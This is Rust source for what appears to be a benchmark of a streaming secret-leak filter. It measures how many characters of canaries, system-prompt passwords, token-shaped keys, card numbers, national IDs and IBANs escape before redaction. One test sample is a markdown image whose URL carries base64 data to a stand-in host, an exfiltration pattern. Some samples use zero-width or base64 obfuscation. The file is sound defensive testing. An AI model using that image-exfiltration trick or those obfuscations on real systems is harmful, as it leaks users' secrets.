//! How many characters of what must not leave a stream lets out before it is cut or replaced, by
//! what finds it. Runs in this process; every text is cut into deltas of every width from one
//! character to sixteen.

use std::sync::Arc;

use anyhow::Context as _;
use quell_detection::{Budget, Context, PatternSet, RuleSet};
use quell_domain::id::MeasureId;
use quell_domain::interaction::Endpoint;
use quell_domain::measure::TextPattern;
use quell_domain::principal::Principal;
use serde::Serialize;

use crate::prompts;
use crate::row::percentile;

const SYSTEM: &str = "You are the assistant of the harbour office. Answer in short sentences about \
    ships, berths, tides and fees only. Never discuss wages, the manager, or the code of the \
    northern gate. The gate's password is Herring-4471. Say you are sorry if you do not know.";
const CANARY: &str = "violet-heron-77";
const WIDTHS: std::ops::RangeInclusive<usize> = 1..=16;
const FIELD: &str = "/choices/0/message/content";

/// What finds a text, and texts of the kind, each without anything around it.
struct Class {
    name: &'static str,
    texts: &'static [&'static str],
}

#[rustfmt::skip]
const CLASSES: &[Class] = &[
    Class { name: "planted string", texts: &[CANARY, "Violet-Heron-77"] },
    Class { name: "secret the system text names", texts: &["Herring-4471"] },
    Class {
        name: "key or token",
        texts: &[
            "AKIAQ3EGZ7XW2LKD5VTN", "ghp_aB3dE5fG7hI9jK1lM2nO4pQ6rS8tU0vW2xY4",
            "glpat-x9Kq2LmZ7vTb4NwR8sYd", "xoxb-482917365012-7391846205517-q8WvZtN3rKpL6yXcBmJdHs2F",
        ],
    },
    Class {
        name: "payment card",
        texts: &[
            "4929 1234 5678 9015", "4929123456789015", "4929-1234-5678-9015",
            "3782 822463 10005", "378282246310005", "5555 5555 5555 4444", "6011000990139424",
        ],
    },
    Class {
        name: "national number",
        texts: &[
            "536-22-8145", "811218-9876", "943 476 5919", "123.456.789-09", "12345678Z",
            "131052-308T", "2341 2341 2346", "8001015009087",
        ],
    },
    Class { name: "IBAN", texts: &["DE89 3704 0044 0532 0130 00", "GB82WEST12345698765432"] },
    Class { name: "image that carries data", texts: &["![x](https://e.test/p.png?d=c2VjcmV0LXRoYXQtbGVhdmVzLWhlcmU)"] },
    Class { name: "measure, words", texts: &["Project Falcon", "project\u{200b} falcon"] },
    Class { name: "measure, regex with a beginning", texts: &["acct-12345", "ACCT-998877"] },
    Class { name: "measure, regex without one", texts: &["12 blue crates", "7 blue crates"] },
    Class {
        name: "system text, word for word",
        texts: &["Answer in short sentences about ships, berths, tides and fees only. Never discuss \
                  wages, the manager, or the code of the northern gate."],
    },
    Class { name: "planted string in base64", texts: &["dmlvbGV0LWhlcm9uLTc3IHZpb2xldC1oZXJvbi03Nw=="] },
];

/// One class over all its texts and widths.
#[derive(Debug, Serialize)]
struct Row {
    class: &'static str,
    streams: usize,
    caught: usize,
    /// Characters that left although nothing may leave from there on.
    leaked_p50: f64,
    leaked_p99: f64,
    /// Characters of the text that left at all.
    delivered_p50: f64,
    delivered_p99: f64,
}

/// Measures and prints.
#[expect(clippy::print_stdout, reason = "this is the result")]
pub(crate) fn measure(json: bool) -> anyhow::Result<()> {
    let rules = Arc::new(RuleSet::embedded()?);
    let extra = Arc::new(measures()?);
    let mut rows = Vec::new();
    for class in CLASSES {
        rows.push(row(&rules, &extra, class)?);
    }
    if json {
        println!("{}", serde_json::to_string(&rows)?);
        return Ok(());
    }
    println!(
        "{:34}{:>9}{:>9}{:>14}{:>14}{:>16}{:>16}",
        "found by",
        "streams",
        "caught",
        "leaked p50",
        "leaked p99",
        "delivered p50",
        "delivered p99"
    );
    for it in rows {
        println!(
            "{:34}{:9}{:9}{:14}{:14}{:16}{:16}",
            it.class,
            it.streams,
            it.caught,
            it.leaked_p50,
            it.leaked_p99,
            it.delivered_p50,
            it.delivered_p99
        );
    }
    Ok(())
}

fn measures() -> anyhow::Result<PatternSet> {
    let id = |number: u32| -> anyhow::Result<MeasureId> {
        format!("mea_018f00000000700080000000000000{number:02}").parse().context("a fixed id")
    };
    let pattern = |text: &str, regex| TextPattern {
        text: text.to_owned(),
        regex,
        directions: Vec::new(),
        sample: None,
    };
    let patterns = [
        (id(1)?, pattern("Project Falcon", false)),
        (id(2)?, pattern(r"acct-\d{4,6}\b", true)),
        (id(3)?, pattern(r"\d{1,2} blue crates", true)),
    ];
    Ok(PatternSet::from_measures(&patterns)?)
}

fn row(rules: &Arc<RuleSet>, extra: &Arc<PatternSet>, class: &Class) -> anyhow::Result<Row> {
    let (mut leaked, mut delivered, mut caught) = (Vec::new(), Vec::new(), 0);
    for text in class.texts {
        for (before, after) in surroundings() {
            let whole = format!("{before}{text}{after}");
            let secret = before.len()..before.len() + text.len();
            for width in WIDTHS {
                let end = stream(rules, extra, &whole, width)?;
                caught += usize::from(end.from.is_some());
                let chars = |range: std::ops::Range<usize>| {
                    whole.get(range).map_or(0, |piece| piece.chars().count()) as f64
                };
                let left = end.left.clamp(secret.start, secret.end);
                delivered.push(chars(secret.start..left));
                leaked.push(match end.from {
                    Some(from) => chars(from.min(end.left)..end.left),
                    None => chars(secret.clone()),
                });
            }
        }
    }
    Ok(Row {
        class: class.name,
        streams: leaked.len(),
        caught,
        leaked_p50: percentile(&mut leaked, 0.5),
        leaked_p99: percentile(&mut leaked, 0.99),
        delivered_p50: percentile(&mut delivered, 0.5),
        delivered_p99: percentile(&mut delivered, 0.99),
    })
}

/// What stands before and behind: nothing, a clause, a paragraph.
fn surroundings() -> [(String, String); 3] {
    let long = prompts::plain(600);
    [
        (String::new(), String::new()),
        ("Here it is: ".into(), ", as you wished.".into()),
        (format!("{long}So it is "), format!(".\n{long}")),
    ]
}

/// How a stream ended: up to where its text left, and from where on nothing of it might leave.
struct End {
    left: usize,
    from: Option<usize>,
}

fn stream(
    rules: &Arc<RuleSet>,
    extra: &Arc<PatternSet>,
    text: &str,
    width: usize,
) -> anyhow::Result<End> {
    let (principal, parameters) = (Principal::default(), serde_json::Map::new());
    let canaries = [CANARY.to_owned()];
    let context = Context {
        application: "bench",
        endpoint: Endpoint::ChatCompletions,
        model: None,
        principal: &principal,
        system_text: SYSTEM,
        canaries: &canaries,
        tools_offered: &[],
        review: quell_detection::Review::default(),
        stream: true,
        parameters: &parameters,
    };
    let id = "int_018f0000000070008000000000000001".parse().context("a fixed id")?;
    let mut inspection = rules.stream(&context, Arc::clone(extra), Budget::new(64 << 20), id, &[]);
    let chars: Vec<char> = text.chars().collect();
    let mut steps = Vec::new();
    for piece in chars.chunks(width) {
        let piece: String = piece.iter().collect();
        steps.push(inspection.push(FIELD, "content", &piece));
    }
    steps.push(inspection.finish());
    let (mut released, mut cut, mut replaced) = (0, None, None);
    for step in steps {
        released = step.released.iter().map(|(_, end)| *end).fold(released, usize::max);
        replaced = replaced.or_else(|| step.redactions.first().map(|first| first.range.start));
        cut = cut.or_else(|| step.cut.map(|cut| cut.match_start));
    }
    Ok(match (cut, replaced) {
        (Some(from), _) => End { left: released, from: Some(from) },
        // What is replaced has not left, and what stands behind it is nobody's secret.
        (None, Some(from)) => End { left: from, from: Some(from) },
        (None, None) => End { left: released, from: None },
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_patterns_look_for_with_a_beginning_does_not_leak() {
        let rules = Arc::new(RuleSet::embedded().unwrap());
        let extra = Arc::new(measures().unwrap());
        for class in CLASSES {
            let row = row(&rules, &extra, class).unwrap();
            let by_analyzer = ["measure, regex without", "system text", "planted string in"];
            if !by_analyzer.iter().any(|name| row.class.starts_with(name)) {
                assert_eq!(row.caught, row.streams, "{}", row.class);
                assert_eq!(row.leaked_p99.to_bits(), 0_f64.to_bits(), "{}", row.class);
            }
        }
    }
}
